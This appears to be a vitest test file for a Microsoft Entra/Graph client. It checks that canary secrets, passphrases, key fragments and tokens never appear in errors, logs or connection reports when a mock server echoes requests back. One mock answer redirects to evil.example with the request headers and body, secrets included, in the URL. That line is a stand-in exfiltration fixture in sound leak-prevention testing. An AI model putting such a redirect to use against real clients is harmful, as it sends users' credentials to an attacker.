import { afterEach, expect, test } from 'vitest';
import { testConnection } from './connection-test.ts';
import type { Credential } from './credential.ts';
import { createGraphClient } from './graph.ts';
import { json, type OddServer, oddServer } from './testing/odd-server.ts';
import { makePair } from './testing/pairs.ts';
import { everythingIn, testClock, testLogger, testRandom } from './testing/surroundings.ts';
import { createTokenSource } from './token.ts';

const canaries = {
  secret: 'CANARY~secret.value-8Q~kQ7/+=&zzzz',
  passphrase: 'CANARY-passphrase-of-the-key',
  token: 'eyJhbGciOiJub25lIn0.eyJDQU5BUlkiOnRydWV9.CANARYtokenCANARY',
};
const pair = makePair();
const keyPart = pair.privateKeyPem.split('\n')[5] ?? '';
const credentials: readonly Credential[] = [
  { type: 'secret', value: canaries.secret, validUntil: Date.now() + 1e9 },
  { type: 'certificate', ...pair, passphrase: canaries.passphrase },
  { type: 'federated', assertion: async () => canaries.token },
];
const open: OddServer[] = [];
afterEach(async () => {
  for (const one of open.splice(0)) await one.close();
});

type Answer = Parameters<typeof oddServer>[0];
const echoed = (headers: object, body: string) =>
  `${JSON.stringify(headers)} ${body} ${decodeURIComponent(body.replaceAll('+', ' '))}`;

/** Answers that throw the request back: as an error of Entra's or Graph's, as HTML, as JSON of another kind. */
const mirrors: readonly [string, Answer][] = [
  [
    'an OAuth error',
    (request, response, body) =>
      json(response, 400, {
        error: 'invalid_client',
        error_description: echoed(request.headers, body),
        error_codes: [7000215],
      }),
  ],
  [
    'an error of Graph',
    (request, response, body) =>
      json(response, 400, { error: { code: 'BadRequest', message: echoed(request.headers, body) } }),
  ],
  ['HTML under 200', (request, response, body) => json(response, 200, `<html>${echoed(request.headers, body)}</html>`)],
  ['HTML under 502', (request, response, body) => json(response, 502, `<html>${echoed(request.headers, body)}</html>`)],
  ['JSON of another kind', (request, response, body) => json(response, 200, { seen: echoed(request.headers, body) })],
  ['a broken connection', (request) => request.socket.destroy()],
  [
    'a redirection',
    (request, response, body) =>
      response
        .writeHead(302, { location: `https://evil.example/?${encodeURIComponent(echoed(request.headers, body))}` })
        .end(),
  ],
];

const expectClean = (said: string): void => {
  for (const canary of [...Object.values(canaries), encodeURIComponent(canaries.secret), keyPart])
    expect(said).not.toContain(canary);
};
const caught = (promise: Promise<unknown>) =>
  promise.then(
    () => undefined,
    (error: unknown) => error,
  );

test.each(mirrors)(
  'no secret, key or token is in an error or a log line after %s of the token endpoint',
  async (_, answer) => {
    const server = await oddServer(answer);
    open.push(server);
    for (const credential of credentials) {
      const logger = testLogger();
      const options = {
        cloud: 'global',
        tenantId: '11111111-1111-4111-8111-111111111111',
        clientId: '22222222-2222-4222-8222-222222222222',
        credential,
        http: server.http,
        clock: testClock(),
        random: testRandom(),
        logger,
      } as const;
      const error = await caught(createTokenSource({ ...options, retry: { attempts: 2 } }).get());
      expect(error).toMatchObject({ name: 'KnownError' });
      const report = await testConnection(options);
      const form = server.seen.map(({ body }) => new URLSearchParams(body).get('client_assertion') ?? 'no assertion');
      const said = [everythingIn(error), everythingIn(logger.lines), everythingIn(report)].join('\n');
      expectClean(said);
      for (const assertion of form) if (assertion.length > 100) expect(said).not.toContain(assertion);
    }
  },
);

test.each(mirrors)('no token is in an error or a log line after %s of Graph', async (_, answer) => {
  const server = await oddServer(answer);
  open.push(server);
  const logger = testLogger();
  const token = { get: async () => canaries.token, renew: async () => canaries.token };
  const base = { cloud: 'global', http: server.http, clock: testClock(), random: testRandom(), logger, token } as const;
  const graph = createGraphClient({ ...base, limits: { attempts: 2 } });
  const errors = [
    await caught(
      (async () => {
        for await (const page of graph.pages('/users?$select=id')) expect(page).toBeDefined();
      })(),
    ),
    await caught(graph.batch([{ id: '1', url: '/users/1' }])),
  ];
  expectClean([everythingIn(errors), everythingIn(logger.lines)].join('\n'));
  expect(errors.every((error) => error instanceof Error)).toBe(true);
});

test('no passphrase or key is in an error after a wrong passphrase, a wrong pair, or a key that cannot sign', async () => {
  const wrong: readonly Credential[] = [
    { type: 'certificate', ...pair, certificatePem: makePair().certificatePem, passphrase: canaries.passphrase },
    {
      type: 'certificate',
      ...pair,
      privateKeyPem: pair.privateKeyPem.replace(/MII[\s\S]{300}/, 'MIIAAA'),
      passphrase: canaries.passphrase,
    },
    { type: 'certificate', ...makePair({ bits: 1024 }), passphrase: canaries.passphrase },
    { type: 'secret', value: canaries.secret, validUntil: 1 },
  ];
  const server = await oddServer((_, response) => json(response, 200, {}));
  open.push(server);
  for (const credential of wrong) {
    const logger = testLogger();
    const error = await caught(
      createTokenSource({
        cloud: 'global',
        tenantId: 'contoso.onmicrosoft.com',
        clientId: '22222222-2222-4222-8222-222222222222',
        credential,
        http: server.http,
        clock: testClock(),
        random: testRandom(),
        logger,
      }).get(),
    );
    expect(error).toMatchObject({ name: 'KnownError' });
    expectClean(everythingIn([error, logger.lines]));
  }
  expect(server.seen).toEqual([]);
});

test('the canaries are real: the request that the mirror saw holds them', async () => {
  const server = await oddServer((_, response) => json(response, 400, { error: 'x' }));
  open.push(server);
  const source = createTokenSource({
    cloud: 'global',
    tenantId: 'contoso.onmicrosoft.com',
    clientId: '22222222-2222-4222-8222-222222222222',
    credential: { type: 'secret', value: canaries.secret, validUntil: Date.now() + 1e9 },
    http: server.http,
    clock: testClock(),
    random: testRandom(),
    logger: testLogger(),
  });
  await caught(source.get());
  expect(new URLSearchParams(server.seen[0]?.body).get('client_secret')).toBe(canaries.secret);
});
